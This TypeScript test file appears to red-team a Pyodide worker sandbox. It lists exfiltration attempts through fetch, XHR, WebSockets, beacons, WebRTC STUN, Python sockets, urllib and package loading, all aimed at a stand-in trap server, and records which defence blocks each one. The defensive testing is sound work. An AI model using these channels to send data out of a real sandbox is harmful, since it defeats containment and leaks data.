/**
 * Attempts to send data out of the sandbox: every request API a worker has, from JavaScript and from
 * Python's own libraries, towards the trap server. Each path names its attempt, so a hit at the trap says
 * which one got out.
 */
import type { Attempt } from './redteamAttempt.ts';

export const NETWORK_ATTEMPTS: Attempt[] = [
  {
    name: 'fetch GET',
    async: true,
    python: `watch(js.fetch(TRAP + "fetch-get"))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'fetch POST with a body',
    async: true,
    python: `watch(js.fetch(TRAP + "fetch-post", obj(method="POST", body="stolen")))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: "fetch mode 'no-cors'",
    async: true,
    python: `watch(js.fetch(TRAP + "fetch-no-cors", obj(mode="no-cors")))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'fetch keepalive',
    async: true,
    python: `watch(js.fetch(TRAP + "fetch-keepalive", obj(method="POST", body="x", keepalive=True)))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'fetch of a Request object',
    async: true,
    python: `watch(js.fetch(js.Request.new(TRAP + "fetch-request")))`,
    expect: ['rejected:TypeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'XMLHttpRequest, synchronous',
    python: `
xhr = js.XMLHttpRequest.new()
xhr.open("GET", TRAP + "xhr-sync", False)
xhr.send()`,
    expect: ['raised:js.NetworkError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'XMLHttpRequest, asynchronous',
    async: true,
    python: `
xhr = js.XMLHttpRequest.new()
watch_events(xhr, ["load", "error"])
xhr.open("POST", TRAP + "xhr-async", True)
xhr.send("stolen")`,
    expect: ['error'],
    stoppedBy: 'CSP',
  },
  {
    name: 'WebSocket',
    async: true,
    python: `watch_events(js.WebSocket.new(TRAP.replace("http:", "ws:") + "websocket"), ["open", "error"])`,
    expect: ['error'],
    stoppedBy: 'CSP',
  },
  {
    name: 'WebSocketStream',
    async: true,
    python: `watch(js.WebSocketStream.new(TRAP.replace("http:", "ws:") + "websocketstream").opened)`,
    expect: ['rejected:SecurityError', 'raised:AttributeError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'EventSource',
    async: true,
    python: `watch_events(js.EventSource.new(TRAP + "eventsource"), ["open", "error"])`,
    expect: ['error'],
    stoppedBy: 'CSP',
  },
  {
    name: 'WebTransport (QUIC, UDP)',
    async: true,
    python: `watch(js.WebTransport.new(TRAP.replace("http:", "https:") + "webtransport").ready)`,
    expect: ['raised:AttributeError'],
    stoppedBy: 'not a secure context',
  },
  {
    name: 'navigator.sendBeacon',
    python: `assert not js.navigator.sendBeacon(TRAP + "beacon", "stolen"), "the beacon was queued"`,
    expect: ['raised:AttributeError'],
    stoppedBy: 'worker scope',
  },
  {
    // WebRTC's STUN/ICE traffic is not governed by connect-src: in a window this is the classic CSP bypass.
    // A dedicated worker has no RTCPeerConnection; the trap's UDP socket would see a STUN request if it did.
    name: 'RTCPeerConnection with a STUN server at the trap',
    python: `
servers = [obj(urls="stun:" + TRAP.split("//")[1].strip("/"))]
js.RTCPeerConnection.new(obj(iceServers=servers)).createDataChannel("out")`,
    expect: ['raised:AttributeError'],
    stoppedBy: 'worker scope',
  },
  {
    name: 'Python urllib.request.urlopen',
    python: `
import urllib.request
urllib.request.urlopen(TRAP + "urllib", timeout=2)`,
    expect: ['raised:URLError'],
    stoppedBy: 'worker scope',
  },
  {
    name: 'Python socket.create_connection',
    python: `
import socket
# Emscripten emulates sockets over WebSockets: without the CSP this would open ws://127.0.0.1:<port>.
connection = socket.create_connection(("127.0.0.1", int(TRAP.rsplit(":", 1)[1].strip("/"))), timeout=2)
connection.sendall(b"GET /python-socket HTTP/1.0\\r\\n\\r\\n")
connection.recv(10)`,
    expect: ['raised:OSError'],
    stoppedBy: 'worker scope',
  },
  {
    name: 'Python webbrowser.open',
    python: `
# Pyodide's webbrowser opens a tab through js.window, which a worker does not have.
import webbrowser
assert not webbrowser.open(TRAP + "webbrowser"), "webbrowser.open claims it opened the page"`,
    expect: ['raised:ImportError'],
    stoppedBy: 'worker scope',
  },
  {
    name: 'pyodide.http.open_url (synchronous XHR)',
    python: `
import pyodide.http
pyodide.http.open_url(TRAP + "open-url")`,
    expect: ['raised:js.NetworkError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'pyodide.http.pyfetch on the asyncio loop',
    async: true,
    python: `
import asyncio, pyodide.http
record("pending")
def ended(task, record=record):
    error = task.exception()
    record("resolved" if error is None else "rejected:" + type(error).__name__)
asyncio.ensure_future(pyodide.http.pyfetch(TRAP + "pyfetch")).add_done_callback(ended)`,
    expect: ['rejected:AbortError'],
    stoppedBy: 'CSP',
  },
  {
    name: 'pyodide.loadPackage of a trap wheel',
    async: true,
    python: `
import pyodide_js
# loadPackage resolves even when a download fails, and reports the failure through errorCallback.
record("no callback")
failed = create_proxy(lambda message: record("errorCallback"))
pyodide_js.loadPackage(TRAP + "evil-1.0-py3-none-any.whl", obj(errorCallback=failed))`,
    expect: ['errorCallback'],
    stoppedBy: 'CSP',
  },
];
